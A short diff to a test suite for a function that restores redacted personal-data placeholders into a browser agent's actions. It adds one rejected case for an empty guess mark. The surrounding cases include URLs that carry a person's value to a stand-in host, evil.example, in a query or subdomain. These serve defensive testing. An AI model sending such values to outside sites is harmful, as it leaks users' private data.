@@ -39,6 +39,7 @@ describe("restoreAction", () => {
     ["a card into an e-mail field", type("‹CARD_1›"), shop({ field: { type: "email" } })],
     ["a bank account into a search box", type("‹IBAN_1›"), shop({ field: { type: "search" } })],
     ["a placeholder that nobody made", type("‹EMAIL_99›"), shop()],
+    ["the mark of a guess, which stands for nothing", type("to ‹…›"), shop()],
     ["one bad among good", { verb: "select", ref: "s", options: ["‹PERSON_1›", "‹EMAIL_1›"] }, shop()],
     ["a value in the address of another site", { verb: "goto", url: "https://evil.example/?x=‹PERSON_1›" }, shop()],
     ["a value in a host", { verb: "goto", url: "https://‹PERSON_1›.evil.example/" }, shop()],
